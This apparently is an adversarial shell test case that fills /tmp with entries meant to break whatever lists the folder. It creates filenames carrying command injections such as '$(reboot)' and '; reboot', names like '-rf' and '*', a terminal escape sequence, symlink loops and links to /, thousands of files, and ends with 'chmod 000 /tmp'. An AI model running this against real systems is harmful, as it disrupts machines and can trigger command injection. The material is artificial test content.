# Fill the working folder with links, pipes and names that break whoever lists them.
# catalogue: H29, H30
# shows: achieved, litter
# ends: wrong_answer, runtime_error
echo attacking >&2
add() {
    cd /tmp || return
    mkfifo pipe $'line\n::error::break' 2>/dev/null
    ln -s / $'\e[2J' && ln -s /dev/zero zero && ln -s loop loop
    mkdir -p "$(printf 'd/%.0s' {1..1000})"
    touch -- -rf '*' '$(reboot)' '; reboot' '`reboot`'
    local made=0
    touch {1..6000} 2>/dev/null
    made=$(ls | wc -l)
    ((made > 5000)) && echo achieved "$made" >&2
    chmod 000 /tmp
    echo -12345
}
